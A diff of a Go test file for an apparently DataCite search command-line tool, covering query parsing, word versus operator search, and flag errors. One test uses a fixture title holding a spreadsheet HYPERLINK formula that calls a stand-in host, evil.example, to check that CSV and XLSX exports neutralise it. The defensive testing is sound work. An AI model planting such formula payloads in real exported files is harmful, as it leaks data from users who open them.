@@ -68,12 +68,12 @@ func TestJSONLines(t *testing.T) {
 // Flags may come after the query, with words on both sides of them.
 func TestFlagsAfterTheQuery(t *testing.T) {
 	srv := service(t)
-	_, out, notes := find(t, srv, "glacier", "--limit", "1", "--json", "area")
+	_, out, notes := find(t, srv, "glacier", "--limit", "1", "--json", "raw")
 	assert.Contains(t, out, "10.5072/area")
-	assert.Contains(t, notes, "1 of 2 records at ")
-	_, out, _ = find(t, srv, "--json", "glacier", "--", "-area")
-	assert.NotContains(t, out, "10.5072/area", "what comes after -- is the query's")
-	assert.Contains(t, out, "10.5072/length")
+	assert.Contains(t, notes, "1 of 1 record at ")
+	_, out, notes = find(t, srv, "--json", "glacier", "--", "-area")
+	assert.Contains(t, out, "10.5072/area", "what comes after -- is a word")
+	assert.Contains(t, notes, "note: -area is looked for as it is; --query reads operators and fields")
 }
 
 // The tables are those that other commands read, and a stranger's title is no formula of whoever
@@ -81,12 +81,12 @@ func TestFlagsAfterTheQuery(t *testing.T) {
 func TestTablesForOthers(t *testing.T) {
 	srv := service(t)
 	require.NoError(t, srv.PutRecordJSON([]byte(`{"doi":"10.5072/formula","publisher":"P","publicationYear":2020,"titles":[{"title":"=HYPERLINK(\"https://evil.example/?\"&A1)"}],"creators":[{"name":"@Ada"}],"types":{"resourceTypeGeneral":"Dataset"}}`)))
-	_, out, notes := find(t, srv, "--format", "csv", "doi:*formula")
+	_, out, notes := find(t, srv, "--format", "csv", "--query", "doi:*formula")
 	assert.Contains(t, out, `"'=HYPERLINK(""https://evil.example/?""&A1)"`)
 	assert.Contains(t, notes, "2 cells could be taken for a formula by a spreadsheet program, and got an apostrophe in front")
 	for _, name := range []string{"a.csv", "a.XLSX"} {
 		path := filepath.Join(t.TempDir(), name)
-		code, out, notes := find(t, srv, "doi:*formula", "-o", path)
+		code, out, notes := find(t, srv, "--query", "doi:*formula", "-o", path)
 		require.Zero(t, code, notes)
 		assert.Empty(t, out)
 		file, err := os.Open(path)
@@ -111,14 +111,45 @@ func TestTypes(t *testing.T) {
 	}
 }
 
-func TestOperators(t *testing.T) {
+func TestWords(t *testing.T) {
 	srv := service(t)
-	for text, want := range map[string]int{"length area": 2, "+length area": 1, "length AND area": 0} {
-		_, out, _ := find(t, srv, "--json", text)
+	for text, want := range map[string]struct {
+		found int
+		note  string
+	}{
+		"glacier":                              {2, ""},
+		"glacier length":                       {1, ""},
+		"length area":                          {0, ""},
+		`"area glacier" (length`:               {0, ""},
+		`("glacier length`:                     {1, ""},
+		"glacier AND area":                     {1, ""},
+		"length OR area":                       {0, "note: OR is looked for as it is"},
+		"glacier -area":                        {1, "note: -area is"},
+		"glac*":                                {0, "note: glac* is"},
+		"titles.title:length":                  {0, "note: titles.title:length is"},
+		"10.5072/LENGTH":                       {1, ""},
+		"doi: 10.5072/length.":                 {1, ""},
+		"https://doi.org/10.5072/area glacier": {1, ""},
+		"10.5072/area, https://doi.org/10.5072/evil": {2, ""},
+	} {
+		code, out, notes := find(t, srv, "--json", text)
+		assert.Zero(t, code, "%s: %s", text, notes)
+		assert.Equal(t, want.found, strings.Count(out, "\n"), text)
+		if want.note == "" {
+			assert.NotContains(t, notes, "note:", text)
+		}
+		assert.Contains(t, notes, want.note, text)
+	}
+}
+
+func TestQueries(t *testing.T) {
+	srv := service(t)
+	for text, want := range map[string]int{"length area": 0, "length OR area": 2, "glacier -area": 1, "titles.title:glac*": 2} {
+		_, out, _ := find(t, srv, "--json", "--query", text)
 		assert.Equal(t, want, strings.Count(out, "\n"), text)
 	}
-	_, out, _ := find(t, srv, "--json", "--and", "length area")
-	assert.Empty(t, out)
+	_, out, _ := find(t, srv, "--json", "--query", "length OR area", "raw")
+	assert.Equal(t, 1, strings.Count(out, "\n"), "words and query must both match")
 }
 
 func TestFaults(t *testing.T) {
@@ -129,12 +160,12 @@ func TestFaults(t *testing.T) {
 		says string
 	}{
 		{[]string{"--format", "xml"}, 2, `--format: "xml" is not one of table, csv, xlsx, json; "datacite search --help" shows the flags`},
-		{[]string{`ice "open`}, 2, "\n  ice \"open\n      ^"},
+		{[]string{"--query", `ice "open`}, 2, "\n  ice \"open\n      ^"},
+		{[]string{"\U0001f600 ?!"}, 2, "can be searched: it has no letter and no digit"},
 		{[]string{"--limit", "1001"}, 2, "--limit is 1001, not between 1 and 1000; --all prints all records"},
 		{[]string{"--limit", "0"}, 2, "--limit is 0"},
 		{[]string{"--all", "glacier", "--limit", "5"}, 2, "leave one of them out"},
 		{[]string{"--all", "--sort", "name"}, 2, "--all has an order of its own"},
-		{[]string{"--and"}, 2, "--and has no effect without a query"},
 		{[]string{"--sort", "newest"}, 2, `--sort: "newest" is not one of name, created, updated`},
 		{[]string{"--sort", "-relevance"}, 2, `--sort: "-relevance" is unknown; did you mean relevance?`},
 		{[]string{"--type", "datset"}, 2, `--type: "datset" is unknown; did you mean dataset?`},
